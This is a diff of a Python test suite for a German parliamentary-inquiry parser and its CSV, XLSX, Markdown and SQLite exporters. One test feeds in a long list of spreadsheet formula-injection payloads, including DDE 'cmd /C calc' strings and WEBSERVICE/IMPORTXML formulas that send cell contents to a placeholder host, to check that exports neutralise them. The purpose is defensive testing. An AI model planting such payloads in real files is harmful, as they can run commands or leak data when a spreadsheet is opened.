@@ -3,14 +3,19 @@
 import contextlib
 import csv
 import datetime as dt
+import functools
 import io
 import json
 import os
 import re
+import shutil
 import sqlite3
+import subprocess
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
+from xml.etree import ElementTree as ET
 
 import openpyxl
 import pytest
@@ -20,11 +25,13 @@ from typer.testing import CliRunner, Result
 
 from anfrage_parser import parse_file, parse_text
 from anfrage_parser.cli.app import app
-from anfrage_parser.errors import LimitError
+from anfrage_parser.errors import LimitError, NotAnInquiryError, NoTextError
 from anfrage_parser.exporters import EXPORTERS, ExportOptions, table_xlsx
 from anfrage_parser.exporters.cells import allowed, as_text, harmless
 from anfrage_parser.exporters.columns import FINDINGS, INQUIRIES, QUESTIONS, Table
 from anfrage_parser.jsonout import to_json, to_line
+from anfrage_parser.parse import parse_source
+from anfrage_parser.readers import read_file
 from anfrage_parser.record import as_dict, from_dict
 from anfrage_parser.schema import Inquiry
 from tests.test_hostile import PAYLOADS
@@ -42,18 +49,24 @@ def run(*words: object, code: int = 0, data: bytes = b"") -> Result:
     return result
 
 
-@pytest.fixture(scope="module")
+@pytest.fixture(scope="session")
 def records() -> list[Inquiry]:
-    """Those of all samples and, where there is a corpus, of some of its texts."""
+    """Those of all samples, with their evidence, and where there is a corpus, of 200 of its letters, from all its places."""
     found = [inquiry for path in SAMPLES for inquiry in parse_file(path)]
     if CORPUS:
-        for path in sorted(Path(CORPUS).rglob("*.txt"))[:200]:
-            try:
-                found += parse_file(path)
-            except Exception as error:  # what is refused is no matter here
-                assert hasattr(error, "exit_code")
+        letters = [path for path in sorted(Path(CORPUS).rglob("*.txt")) if path.stat().st_size < 12_000]
+        for path in letters[:: len(letters) // 200][:200]:
+            with contextlib.suppress(NotAnInquiryError, NoTextError):
+                found += parse_source(read_file(path))
+        assert len(found) > 150
     assert len(found) >= 35
     return found
+
+
+@pytest.fixture(scope="session")
+def rows(records: list[Inquiry]) -> list[dict[str, Any]]:
+    """The same as JSON: what the exports are held against."""
+    return [json.loads(to_line(as_dict(record))) for record in records]
 
 
 def exported(records: list[Inquiry], name: str, **options: Any) -> bytes:
@@ -85,39 +98,138 @@ def test_csv_gives_the_texts_back(preset: str, rows: str, records: list[Inquiry]
         assert re.match(r'"(?:[^"]|"")*";[0-9]+;"', data.decode("utf-8-sig").split("\r\n")[1]), "every text is quoted, no number is"
 
 
-def poisoned(payload: str) -> Inquiry:
-    """A record in which every text begins with the payload."""
+def text_of(value: Any) -> str:
+    """A value of a record as it stands in a cell."""
+    return "" if value is None else {True: "ja", False: "nein"}[value] if isinstance(value, bool) else str(value)
 
-    def fill(value: Any, key: str = "") -> Any:
-        if isinstance(value, dict):
-            return {k: fill(v, k) for k, v in value.items()}
-        if isinstance(value, list):
-            return [fill(v, key) for v in value]
-        kept = ("schema_version", "document_type", "date", "date_basis", "received", "session_date", "severity")
-        return payload + value if isinstance(value, str) and key not in kept else value
 
+def named(people: list[dict[str, Any]]) -> str:
+    return "; ".join(p["name"] + (f" ({p['role']})" if p["role"] else "") for p in people)
+
+
+def of_inquiry(row: dict[str, Any]) -> dict[str, str]:
+    """What a row about an inquiry has to hold, told from its JSON alone."""
+    plain = (
+        "number",
+        "date",
+        "party",
+        "title",
+        "paper_type",
+        "document_type",
+        "date_basis",
+        "received",
+        "addressee",
+        "committee",
+        "session_date",
+    )
+    more = ("agenda_item", "public", "place", "body", "preamble", "rationale")
+    return {
+        **{key: text_of(row[key]) for key in (*plain, *more)},
+        **{f"source.{key}": text_of(row["source"][key]) for key in ("name", "part", "sha256")},
+        "askers": named(row["askers"]),
+        "signatories": named(row["signatories"]),
+        "questions": str(len(row["questions"])),
+        "findings": str(len([f for f in row["findings"] if f["severity"] in ("warning", "error")])),
+    }
+
+
+def of_question(row: dict[str, Any], question: dict[str, Any]) -> dict[str, str]:
+    block = next(block for block in row["blocks"] if block["number"] == question["block"])
+    return {
+        **of_inquiry(row),
+        **{key: text_of(question[key]) for key in ("index", "label", "text", "tail", "answer", "block")},
+        "parts": "\n".join(f"{part['label']} {part['text']}" for part in question["parts"]),
+        "lead_in": text_of(block["lead_in"]),
+    }
+
+
+@pytest.mark.parametrize("wanted", ["questions", "inquiries"])
+def test_every_cell_is_the_field_that_it_says(wanted: str, records: list[Inquiry], rows: list[dict[str, Any]]) -> None:
+    head, *body = read_back(exported(records, "csv", preset="rfc4180", rows=wanted, raw=True), "rfc4180")
+    truth = [of_inquiry(row) for row in rows] if wanted == "inquiries" else [of_question(row, q) for row in rows for q in row["questions"]]
+    assert [dict(zip(head, cells, strict=True)) for cells in body] == [{key: allowed(row[key]) for key in head} for row in truth]
+    if wanted == "inquiries":
+        shared = ("schema_version", "parties", "blocks", "unassigned", "source")  # in another column, or in none
+        assert {key.partition(".")[0] for key in head} | {*shared} == {*rows[0]} - {"evidence"} | {"source"}
+
+
+def fill(value: Any, payload: str, key: str = "") -> Any:
+    """A record's values with a payload before every text."""
+    if isinstance(value, dict):
+        return {k: fill(v, payload, k) for k, v in value.items()}
+    if isinstance(value, list):
+        return [fill(v, payload, key) for v in value]
+    kept = ("schema_version", "document_type", "date", "date_basis", "received", "session_date", "severity")
+    return payload + value if isinstance(value, str) and key not in kept else value
+
+
+@functools.cache
+def brief() -> dict[str, Any]:
     row = as_dict(parse_text((ROOT / "samples/brief.txt").read_text(encoding="utf-8"))[0])
     row.pop("party")
-    return from_dict(fill(row))
+    return row
 
 
-@pytest.mark.parametrize(
-    "payload", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "\ufeff=1", *PAYLOADS]
+def poisoned(payload: str) -> Inquiry:
+    """A record in which every text begins with the payload."""
+    return from_dict(fill(brief(), payload))
+
+
+STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+BEFORE = (
+    "",
+    " ",
+    "  ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\0",
+    "\x0b",
+    "\x0c",
+    "\x1f",
+    "\x85",
+    "\xa0",
+    "\u2003",
+    "\u2028",
+    "\u3000",
+    "\ufeff",
+    "\0\t ",
+    " \ufeff\n",
 )
-def test_no_cell_is_a_formula(payload: str) -> None:
-    if re.search("[\ud800-\udfff]", payload):
-        return  # no record holds one
-    record = poisoned(payload)
+CALLS = (
+    "1+1", "5", "49 721 123-0", "A1", "SUM(1)", "cmd|' /C calc'!A0", "cmd|'/c rechner'!_xlbgnm.A1", 'HYPERLINK("http://x.example","Hier")',
+    'WEBSERVICE("http://x.example/?"&A1)', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")",
+    "'=1", '"=1"', "=1", "-(-1)", "{=1}", "\t=1", "ABS(1);=2", 'x";=1;"', "x\r\n=1;2", "1\n+1\r@x",
+)  # fmt: skip
+NASTY = tuple(
+    dict.fromkeys([
+        *(before + start for before in BEFORE for start in STARTS),
+        *(start + call for start in ("", *STARTS) for call in CALLS),
+        "\t", "\r", "\0", "\n", ";", ",", '"', '""', "'", "''=1", "\x1b[31m=1", "a\0=1",
+        *(payload for payload in PAYLOADS if not re.search("[\ud800-\udfff]", payload)),
+    ])
+)  # fmt: skip
+"""Values that a spreadsheet might run, or that might break out of their cell."""
+
+
+def test_no_cell_is_a_formula() -> None:
+    records = [poisoned(payload).model_copy(update={"title": payload}) for payload in NASTY]  # before every text, and as the whole of one
+    assert len(NASTY) > 300
     for preset in ("excel-de", "rfc4180"):
-        for rows in ("questions", "inquiries"):
-            head, *body = read_back(exported([record], "csv", preset=preset, rows=rows), preset)
-            assert body and not [
-                cell for row in body for cell in row if cell.lstrip().startswith(OPENS_FORMULA) or cell[:1] in OPENS_FORMULA
+        for wanted in ("questions", "inquiries"):
+            head, *body = read_back(exported(records, "csv", preset=preset, rows=wanted), preset)
+            assert len(body) >= len(records) and all(len(row) == len(head) for row in body)
+            found = [
+                cell
+                for row in body
+                for cell in row
+                if cell[:1] in OPENS_FORMULA or cell.lstrip(" \t\r\n\0\ufeff").startswith(OPENS_FORMULA)
             ]
-            assert all(len(row) == len(head) for row in body)
-    book = openpyxl.load_workbook(io.BytesIO(exported([record], "xlsx")))
-    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f" or cell.hyperlink]
-    assert payload.strip()[:3] not in ("\n#",) and exported([record], "markdown")
+            assert [cell for cell in found if cell] == []
+            assert not [cell for row in body for cell in row if re.match(r"\s*[＝＋－＠]", cell)]
+    book = openpyxl.load_workbook(io.BytesIO(exported(records, "xlsx")), read_only=True)
+    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
 
 
 def shown(value: Any) -> str:
@@ -164,33 +276,100 @@ def test_what_a_workbook_cannot_hold(monkeypatch: pytest.MonkeyPatch, tmp_path: 
         exported([short, short], "xlsx")
 
 
-@settings(max_examples=200, deadline=None)
-@given(st.text(max_size=60))
-def test_any_text_survives(text: str) -> None:
-    record = poisoned(re.sub("[\ud800-\udfff]", "", text) + "x")
+@settings(max_examples=200 if os.environ.get("ANFRAGE_SOAK") else 20, deadline=None)
+@given(st.lists(st.text(max_size=60), min_size=1, max_size=20))
+def test_any_text_survives(texts: list[str]) -> None:
+    records = [poisoned(re.sub("[\ud800-\udfff]", "", text) + "x") for text in texts]
     for preset in ("excel-de", "rfc4180"):
-        body = read_back(exported([record], "csv", preset=preset, raw=True), preset)[1:]
-        assert body == cells([record], QUESTIONS)
-    sheet = openpyxl.load_workbook(io.BytesIO(exported([record], "xlsx")))["Fragen"]
+        assert read_back(exported(records, "csv", preset=preset, raw=True), preset)[1:] == cells(records, QUESTIONS)
+    sheet = openpyxl.load_workbook(io.BytesIO(exported(records, "xlsx")), read_only=True)["Fragen"]
     assert [[unescaped(shown(v)) for v in row] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
-        [unescaped(cell) for cell in row] for row in cells([record], QUESTIONS)
+        [unescaped(cell) for cell in row] for row in cells(records, QUESTIONS)
     ]
 
 
-def test_markdown_holds_every_text(records: list[Inquiry]) -> None:
-    for record in records:
-        said = re.sub(r"\\(.)", r"\1", exported([record], "markdown").decode("utf-8"))
-        for question in record.questions:
-            assert allowed(question.text) in said and all(allowed(part.text) in said for part in question.parts)
-        assert (record.preamble or "") in said and (record.rationale or "") in said and (record.title or "") in said
+def paragraphs(written: bytes) -> list[str]:
+    """The lines of a Markdown text as they will be read, without its marks."""
+    lines = [re.sub(r"^#+ ", "", line) for line in written.decode("utf-8").split("\n")]
+    return [re.sub(r"\\(.)", r"\1", line) for line in lines if line]
+
+
+def said(row: dict[str, Any]) -> list[str]:
+    """All that a record says, in the order of the text."""
+    labels = {
+        "number": "Nummer", "date": "Datum", "received": "Eingang", "party": "Fraktion", "askers": "Fragesteller", "title": "Titel",
+        "addressee": "Empfänger", "committee": "Gremium", "session_date": "Sitzung", "agenda_item": "TOP", "public": "Öffentlich",
+        "body": "Körperschaft",
+    }  # fmt: skip
+    values = of_inquiry(row)
+    out = [row["title"] or row["paper_type"] or row["source"]["name"]]
+    out += [f"- **{label}:** {values[key]}" for key, label in labels.items() if values[key]]
+    out += ["Vorbemerkung", row["preamble"]] if row["preamble"] else []
+    for block in row["blocks"]:
+        out += [block["heading"] or "Fragen", block["intro"], block["lead_in"]]
+        for q in row["questions"]:
+            if q["block"] == block["number"]:
+                out += [f"{q['label']} {q['text']}" if q["label"] else q["text"], *(f"{p['label']} {p['text']}" for p in q["parts"])]
+                out += [q["tail"], q["answer"]]
+    out += ["Begründung", row["rationale"]] if row["rationale"] else []
+    return [line for text in out if text for line in allowed(text).split("\n") if line]
+
+
+def test_markdown_says_all_fields_in_order(records: list[Inquiry], rows: list[dict[str, Any]]) -> None:
+    for record, row in zip(records, rows, strict=True):
+        assert paragraphs(exported([record], "markdown")) == said(row)
+    assert exported(records[:3], "markdown").count(b"\n---\n") == 2
 
 
 def test_lines_are_the_records(records: list[Inquiry]) -> None:
     rows = [json.loads(line) for line in exported(records, "jsonl").splitlines()]
     assert [from_dict(row) for row in rows] == records
+    assert sum("evidence" in row for row in rows) >= 35
 
 
-@pytest.fixture(scope="module")
+def database(path: Path) -> dict[str, list[dict[str, Any]]]:
+    """All rows of all tables."""
+    with contextlib.closing(sqlite3.connect(path)) as base:
+        base.row_factory = sqlite3.Row
+        tables = ("documents", "inquiries", "questions", "parties", "people", "findings", "texts")
+        return {name: [dict(row) for row in base.execute(f"SELECT * FROM {name}")] for name in tables}
+
+
+def sorted_keys(row: dict[str, Any]) -> dict[str, Any]:
+    return dict(sorted(row.items()))
+
+
+def test_a_database_holds_every_field(records: list[Inquiry], rows: list[dict[str, Any]], tmp_path: Path) -> None:
+    path = tmp_path / "a.sqlite"
+    EXPORTERS["sqlite"].export_to(iter(records), path, ExportOptions())
+    tables = database(path)
+    by_text = {row["text_row"]: json.loads(row["record"]) for row in tables["inquiries"]}
+    assert [by_text[number] for number in sorted(by_text)] == [json.loads(line) for line in exported(records, "jsonl").splitlines()]
+    keys = [(row["document"], row["part"]) for row in sorted(tables["inquiries"], key=lambda row: int(row["text_row"]))]
+    at = dict(zip(keys, rows, strict=True))
+    assert len(at) == len(rows)
+    for row in tables["inquiries"]:
+        record = at[row["document"], row["part"]]
+        for key in {*row} & {*record}:
+            assert row[key] == record[key], key
+    wanted: dict[str, list[dict[str, Any]]] = {"questions": [], "parties": [], "people": [], "findings": []}
+    for (document, part), record in at.items():
+        place = {"document": document, "part": part}
+        lead_ins = {block["number"]: block["lead_in"] for block in record["blocks"]}
+        wanted["questions"] += [{**place, **q, "lead_in": lead_ins[q["block"]]} for q in record["questions"]]
+        wanted["parties"] += [{**place, "position": n, "party": name} for n, name in enumerate(record["parties"])]
+        for kind, people in (("asker", record["askers"]), ("signatory", record["signatories"])):
+            wanted["people"] += [{**place, "kind": kind, "position": n, **person} for n, person in enumerate(people)]
+        kept = ("code", "severity", "field", "message", "line", "page")
+        wanted["findings"] += [{**place, "position": n, **{k: f[k] for k in kept}} for n, f in enumerate(record["findings"])]
+    for name, expected in wanted.items():
+        found = [{**row, "parts": json.loads(row["parts"])} if name == "questions" else row for row in tables[name]]
+        assert sorted(map(to_line, map(sorted_keys, found))) == sorted(map(to_line, map(sorted_keys, expected))), name
+    assert {(d["name"], d["sha256"]) for d in tables["documents"]} == {(r["source"]["name"], r["source"]["sha256"]) for r in rows}
+    assert [t["title"] for t in tables["texts"]] == [record["title"] for record in rows]
+
+
+@pytest.fixture(scope="session")
 def kept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
     """The same records in all the ways in which records are kept."""
     folder = tmp_path_factory.mktemp("kept")
@@ -203,6 +382,149 @@ def kept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
     rows = [json.loads(line) for line in (folder / "aus.jsonl").read_bytes().splitlines()]
     (folder / "liste.json").write_bytes(to_json([row for row in rows if "error" not in row]))
     yield folder
+
+
+def comparable(tables: dict[str, list[dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
+    """Without what only a batch knows: where a document lay and by what options it was read, and documents that gave no record."""
+    documents = [{k: v for k, v in row.items() if k not in ("origin", "fingerprint")} for row in tables["documents"] if not row["error"]]
+    return {**tables, "documents": documents}
+
+
+def test_the_same_database_as_a_batch_writes(kept: Path, tmp_path: Path) -> None:
+    for source in ("aus.jsonl", "aus", "aus.sqlite"):
+        path = tmp_path / f"{source}.db"
+        assert "3 Datensätze" in run("export", kept / source, "-o", path).stderr
+        assert comparable(database(path)) == comparable(database(kept / "aus.sqlite"))
+    one, other = tmp_path / "aus.db", tmp_path / "aus.jsonl.db"
+    with contextlib.closing(sqlite3.connect(one)) as base, contextlib.closing(sqlite3.connect(kept / "aus.sqlite")) as batch:
+        script = "SELECT type, name, sql FROM sqlite_master ORDER BY name"
+        assert base.execute(script).fetchall() == batch.execute(script).fetchall()
+        assert base.execute("SELECT document FROM texts WHERE texts MATCH 'verwaltung*'").fetchall()
+    assert one.read_bytes() == other.read_bytes(), "the same records give the same bytes"
+    run("batch", kept / "in", "-o", one, "-j", "1", code=7)
+    after = database(one)
+    assert {row["fingerprint"] for row in after["documents"]} == {row["fingerprint"] for row in database(kept / "aus.sqlite")["documents"]}
+    assert [row["record"] for row in after["inquiries"]] == [row["record"] for row in database(kept / "aus.sqlite")["inquiries"]]
+
+
+def test_documents_of_one_name_or_content(tmp_path: Path) -> None:
+    record = from_dict(brief())
+
+    def named(name: str, sha256: str, part: int = 1) -> Inquiry:
+        return record.model_copy(update={"source": record.source.model_copy(update={"name": name, "sha256": sha256 * 64, "part": part})})
+
+    found = [
+        named("a", "1"),
+        named("a", "1", 2),
+        named("a", "2"),
+        named("b\n", "1"),
+        named("a", "1"),
+        named("a", "2", 7),
+        named("c", "3", 2),
+    ]
+    written = []
+    for folder in ("x", "y"):
+        (tmp_path / folder).mkdir()
+        EXPORTERS["sqlite"].export_to(iter(found), tmp_path / folder / "a.db", ExportOptions())
+        written.append(database(tmp_path / folder / "a.db"))
+    assert written[0] == written[1]
+    documents = {row["key"]: row for row in written[0]["documents"]}
+    first = [key for key, row in documents.items() if row["state"] == "done"]
+    assert len(documents) == 6 and len(first) == 3 and {"a", "c"} < {*first}
+    assert [(row["name"], row["duplicate_of"]) for row in documents.values() if row["state"] == "duplicate"] == [
+        (row["name"], next(k for k in first if documents[k]["sha256"] == row["sha256"]))
+        for row in documents.values()
+        if row["state"] == "duplicate"
+    ]
+    assert sorted((row["document"].partition("~")[0], row["part"]) for row in written[0]["inquiries"]) == [
+        ("a", 1), ("a", 1), ("a", 1), ("a", 2), ("a", 7), ("b_", 1), ("c", 2),
+    ]  # fmt: skip
+
+
+def test_many_documents_of_one_content(tmp_path: Path) -> None:
+    """More than a transaction holds, and no name twice."""
+    EXPORTERS["sqlite"].export_to((from_dict(brief()) for _ in range(200)), tmp_path / "a.db", ExportOptions())
+    states = [row["state"] for row in database(tmp_path / "a.db")["documents"]]
+    assert (len(states), states.count("done"), states.count("duplicate")) == (200, 1, 199)
+
+
+def test_a_database_goes_to_a_file(kept: Path, tmp_path: Path) -> None:
+    assert "braucht eine Datei" in run("export", kept / "aus.jsonl", "--to", "sqlite", "-o", "-", code=2).stderr
+    target = tmp_path / "a.sqlite"
+    run("export", kept / "in/antrag.txt", "-o", target, code=6)
+    run("export", kept / "aus.jsonl", "-o", tmp_path / "fehlt" / "a.sqlite", code=10)
+    assert not [*tmp_path.iterdir()]
+    run("export", kept / "aus.jsonl", "-o", target)
+    before = target.read_bytes()
+    run("export", kept / "aus.jsonl", "-o", target, code=10)
+    (tmp_path / "a.sqlite-wal").write_bytes(b"")
+    assert "ein anderer Lauf" in run("export", kept / "aus.jsonl", "-o", target, "--force", code=10).stderr
+    (tmp_path / "a.sqlite-wal").unlink()
+    run("export", kept / "in/brief.txt", "-o", target, "--force")
+    assert before != target.read_bytes() and [path.name for path in tmp_path.iterdir()] == ["a.sqlite"]
+
+
+@pytest.mark.skipif(shutil.which("prlimit") is None, reason="prlimit is not installed")
+def test_a_full_disk_leaves_no_database(records: list[Inquiry], tmp_path: Path) -> None:
+    (tmp_path / "alle.jsonl").write_bytes(exported(records * 4, "jsonl"))
+    command = ["prlimit", "--fsize=300000", sys.executable, "-m", "anfrage_parser", "export", "alle.jsonl", "-o", "a.sqlite"]
+    done = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False)
+    assert done.returncode == 10 and len(done.stderr.splitlines()) == 1, done.stderr
+    assert [path.name for path in tmp_path.iterdir()] == ["alle.jsonl"]
+
+
+OFFICE, TABLE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text"))
+
+
+def words_in(node: ET.Element) -> str:
+    """The text of a cell in OpenDocument: paragraphs are its lines; blanks, tabs and breaks are elements."""
+    if node.tag == TEXT + "s":
+        return " " * int(node.get(TEXT + "c", 1)) + (node.tail or "")
+    whole = {TEXT + "tab": "\t", TEXT + "line-break": "\n"}.get(node.tag, node.text or "")
+    return whole + "".join(map(words_in, node)) + ("" if node.tag == TEXT + "p" else node.tail or "")
+
+
+def opened_by_libreoffice(book: Path) -> Iterator[tuple[str, list[list[str]]]]:
+    """Each sheet and its cells, as LibreOffice shows them; none of them a formula or a link."""
+    out = book.parent / "offen"
+    profile = f"-env:UserInstallation={(book.parent / 'profil').as_uri()}"
+    words = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(out), str(book)]
+    subprocess.run(words, check=True, capture_output=True, timeout=180)
+    for table in ET.parse(out / f"{book.stem}.fods").iter(TABLE + "table"):
+        rows = []
+        for row in table.iter(TABLE + "table-row"):
+            cells: list[str] = []
+            for cell in row.iter(TABLE + "table-cell"):
+                assert cell.get(TABLE + "formula") is None and not [*cell.iter(TEXT + "a")]
+                shown = "\n".join(words_in(line) for line in cell.iter(TEXT + "p"))
+                count = int(cell.get(TABLE + "number-columns-repeated", 1))
+                cells += [shown] * min(count, 99)  # the empty rest of a row is 16,000 wide
+            rows.append(cells)
+        yield str(table.get(TABLE + "name")), rows
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_shows_the_same_cells(records: list[Inquiry], tmp_path: Path) -> None:
+    book = tmp_path / "buch.xlsx"
+    book.write_bytes(exported([*records[:40], *records[40::4], *map(poisoned, NASTY[::5])], "xlsx"))
+    opened = openpyxl.load_workbook(book)
+    sheets = dict(opened_by_libreoffice(book))
+    assert [*sheets] == opened.sheetnames
+    for sheet in opened:
+        wanted = [[folded(in_german(value)) for value in row] for row in sheet.iter_rows(values_only=True)]
+        found = [[folded(cell) for cell in row[: len(wanted[0])]] for row in sheets[sheet.title]][: len(wanted)]
+        assert len(found) == len(wanted)
+        assert found == wanted
+
+
+def folded(cell: str) -> str:
+    """A cell without its blanks: LibreOffice leaves out tabs where a cell has several lines."""
+    return "\n".join("".join(line.split()) for line in unescaped(cell).split("\n"))
+
+
+def in_german(value: Any) -> str:
+    """A cell as people see it."""
+    return value.strftime("%d.%m.%Y") if isinstance(value, dt.datetime) else shown(value)
 
 
 @pytest.mark.parametrize("source", ["aus", "aus.jsonl", "aus.sqlite", "liste.json", "-"])
